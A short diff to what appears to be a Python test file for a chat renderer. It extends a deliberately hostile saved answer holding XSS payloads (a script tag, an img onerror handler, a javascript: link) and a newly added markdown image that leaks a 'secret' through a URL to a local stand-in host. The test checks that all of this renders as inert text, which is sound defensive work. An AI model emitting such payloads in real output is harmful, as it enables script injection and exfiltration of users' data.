@@ -181,7 +181,7 @@ def _slug(name: str) -> str:
 
 # A saved chat whose answer tries every trick; it must show as text, and its code block goes into a cell.
 HOSTILE_ANSWER = ("<script>window.__pwned = 2</script>\n\n<img src=x onerror=\"window.__pwned=3\">\n\n"
-                  "[click](javascript:window.__pwned=4)\n\n```python\nprint('from the chat')\n```\n")
+                  "[click](javascript:window.__pwned=4)\n\n![leak](http://127.0.0.1:9/leak?d=secret)\n\n```python\nprint('from the chat')\n```\n")
 
 
 class Steps:
